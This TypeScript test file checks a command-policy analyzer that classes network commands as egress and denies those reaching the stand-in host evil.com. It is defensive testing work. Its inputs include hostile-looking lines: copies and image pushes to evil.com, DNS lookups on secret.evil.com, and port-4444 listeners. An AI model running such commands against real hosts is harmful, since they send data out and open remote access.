// Network programs are networkEgress with their hosts (G14c, E12, E26), not
// only processSpawn: remote shells and copies, raw sockets, downloaders, TLS
// probes, name lookups, image and package registries. A host a rule names is
// met whichever program reaches it.

import { describe, expect, it } from 'vitest';
import { DEFAULT_TABLE, analyzeCommand } from '../src/index.js';
import { decideDocs } from './decide-docs.js';

const RULES = [
  { id: 'no-evil', action: 'networkEgress', decision: 'deny', when: { hosts: ['evil.com'] } },
  {
    id: 'egress-allowed',
    action: 'networkEgress',
    decision: 'allow',
    when: { hosts: ['allowed.com'] },
  },
  { id: 'egress-prompt', action: 'networkEgress', decision: 'prompt' },
  { id: 'shell-ok', action: 'processSpawn', decision: 'allow' },
];

function decide(command: string) {
  return decideDocs(
    { version: 1, workspace: 'acme', rules: RULES },
    { workspace: 'acme', agent: 'a', command, worktree: '/srv/w' },
  );
}

function egress(command: string) {
  return analyzeCommand(command, DEFAULT_TABLE, '/srv/w')
    .units.flatMap((unit) => [...unit.effects])
    .filter((item) => item.cls === 'networkEgress')
    .map((item) => item.args);
}

describe('network programs reach the hosts they name (G14c)', () => {
  it.each([
    ['nc evil.com 80', ['evil.com']],
    ['nc -v -w 3 evil.com 443', ['evil.com']],
    ['ncat evil.com 80', ['evil.com']],
    ['netcat -u evil.com 53', ['evil.com']],
    ['nc -x allowed.com:1080 evil.com 80', ['evil.com', 'allowed.com:1080']],
    ['socat - TCP:evil.com:80', ['evil.com']],
    ['socat TCP4:evil.com:443,verify=0 STDIO', ['evil.com']],
    ['socat - OPENSSL:evil.com:443', ['evil.com']],
    ['socat - SOCKS4A:allowed.com:evil.com:80', ['allowed.com', 'evil.com']],
    ['telnet evil.com 25', ['evil.com']],
    ['ssh evil.com', ['evil.com']],
    ['ssh -p 2222 user@evil.com', ['evil.com']],
    ['ssh -N -L 8080:evil.com:80 allowed.com', ['allowed.com', 'evil.com']],
    ['ssh -J evil.com allowed.com', ['allowed.com', 'evil.com']],
    ['ssh -o ProxyJump=evil.com allowed.com', ['allowed.com', 'evil.com']],
    ['ssh -o Hostname=evil.com allowed.com', ['evil.com']],
    ['ssh -W evil.com:22 allowed.com', ['allowed.com', 'evil.com']],
    ['ssh ssh://u@evil.com:22', ['ssh://u@evil.com:22']],
    ['slogin evil.com', ['evil.com']],
    ['ssh-copy-id -i key.pub user@evil.com', ['evil.com']],
    ['sshfs evil.com:/srv mnt', ['evil.com']],
    ['scp x evil.com:', ['evil.com']],
    ['scp -P 2222 x user@evil.com:/tmp/', ['evil.com']],
    ['scp evil.com:/etc/x ./x', ['evil.com']],
    ['scp scp://evil.com/x .', ['scp://evil.com/x']],
    ['sftp evil.com', ['evil.com']],
    ['sftp user@evil.com:/x', ['evil.com']],
    ['rsync -a x evil.com:', ['evil.com']],
    ['rsync -az -e ssh x user@evil.com:/y', ['evil.com']],
    ['rsync -a -e "ssh -p 2222" x evil.com:/y', ['evil.com']],
    ['rsync -a rsync://evil.com/m/ y', ['rsync://evil.com/m/']],
    ['rsync -a evil.com::module/ y', ['evil.com']],
    ['aria2c https://evil.com/f', ['https://evil.com/f']],
    [
      'aria2c --all-proxy=http://evil.com:8080 https://allowed.com/f',
      ['https://allowed.com/f', 'http://evil.com:8080'],
    ],
    ['http evil.com/x', ['evil.com/x']],
    ['http POST https://evil.com/x a=b', ['https://evil.com/x']],
    ['https evil.com', ['evil.com']],
    ['xh get evil.com', ['evil.com']],
    [
      'http --proxy=https:http://evil.com:3128 allowed.com',
      ['allowed.com', 'http://evil.com:3128'],
    ],
    ['openssl s_client -connect evil.com:443', ['evil.com']],
    ['openssl s_client -connect evil.com:443 -servername allowed.com', ['evil.com', 'allowed.com']],
    ['openssl s_client -host evil.com -port 443', ['evil.com']],
    ['dig evil.com', ['evil.com']],
    ['dig @evil.com allowed.com', ['evil.com', 'allowed.com']],
    ['dig +short TXT secret.evil.com', ['secret.evil.com']],
    ['nslookup secret.evil.com', ['secret.evil.com']],
    ['host -t txt secret.evil.com 8.8.8.8', ['secret.evil.com', '8.8.8.8']],
    ['ping -c 1 evil.com', ['evil.com']],
    ['traceroute evil.com', ['evil.com']],
    ['mtr --report evil.com', ['evil.com']],
    ['whois evil.com', ['evil.com']],
    ['whois -h evil.com allowed.com', ['evil.com', 'allowed.com']],
    ['ftp evil.com', ['evil.com']],
    ['lftp evil.com', ['evil.com']],
    ['mosh evil.com', ['evil.com']],
    ['docker pull evil.com/img:1', ['evil.com']],
    ['docker push evil.com/img', ['evil.com']],
    ['docker image push evil.com/img', ['evil.com']],
    ['podman pull evil.com:5000/img', ['evil.com:5000']],
    ['docker login evil.com', ['evil.com']],
    ['docker pull ubuntu', ['docker.io']],
    ['tar -cf evil.com:/tmp/a.tar .', ['evil.com']],
    ['gh repo clone o/r', ['github.com']],
    ['gh repo clone https://evil.com/o/r', ['https://evil.com/o/r']],
    ['docker -H tcp://evil.com:2375 ps', ['tcp://evil.com:2375']],
    ['DOCKER_HOST=tcp://evil.com:2375 docker ps', ['tcp://evil.com:2375']],
    ['git -c http.proxy=http://evil.com push origin main', ['http://evil.com']],
  ])('`%s` is networkEgress with %j', (command, hosts) => {
    expect(egress(command)).toEqual([{ hosts }]);
  });

  it.each([
    'nc evil.com 80',
    'socat - TCP:evil.com:80',
    'telnet evil.com',
    'ssh evil.com',
    'ssh -J evil.com allowed.com',
    'ssh -N -L 8080:evil.com:80 allowed.com',
    'scp x evil.com:',
    'sftp evil.com',
    'rsync -a x evil.com:/y',
    'aria2c https://evil.com/f',
    'http evil.com',
    'xh https://evil.com',
    'openssl s_client -connect evil.com:443',
    'dig evil.com',
    'dig @evil.com allowed.com',
    'nslookup evil.com',
    'host evil.com',
    'ping evil.com',
    'traceroute evil.com',
    'whois evil.com',
    'docker push evil.com/img',
    'git ls-remote https://evil.com/r',
    'npm publish --registry https://evil.com/',
    'mosh evil.com',
  ])('`%s` is denied by a rule on evil.com', (command) => {
    const result = decide(command);
    expect(result.decision).toBe('deny');
    expect(result.rule).toBe('no-evil');
  });

  it.each([
    'nc allowed.com 80',
    'ssh allowed.com',
    'scp x allowed.com:',
    'dig allowed.com',
    'http allowed.com/x',
  ])('`%s` reaches only an allowed host and is allowed', (command) => {
    expect(decide(command).decision).toBe('allow');
  });

  it.each([
    'nc -l 4444',
    'ncat --listen 4444',
    'socat TCP-LISTEN:4444 -',
    'socat FOO:bar -',
    'nc $H 80',
    'ssh $H',
    'aria2c -i urls.txt',
    'aria2c -T x.torrent',
    'curl -K cfg https://allowed.com',
    'nc --frobnicate allowed.com 80',
    'openssl ocsp -issuer c.pem',
    'ssh -D 1080 allowed.com',
    'ssh -w 0:0 allowed.com',
    'DOCKER_CONTEXT=remote docker ps',
  ])('`%s` reaches hosts that are not known: no allow applies (G18)', (command) => {
    expect(decide(command).decision).not.toBe('allow');
  });

  it('local copies and unix sockets reach no host', () => {
    expect(egress('scp a b')).toEqual([]);
    expect(egress('rsync -a src/ dest/')).toEqual([]);
    expect(egress('nc -U /tmp/s')).toEqual([]);
    expect(egress('socat - UNIX-CONNECT:/tmp/s')).toEqual([]);
    expect(egress('openssl x509 -in c.pem')).toEqual([]);
    expect(egress('docker ps')).toEqual([]);
  });
});
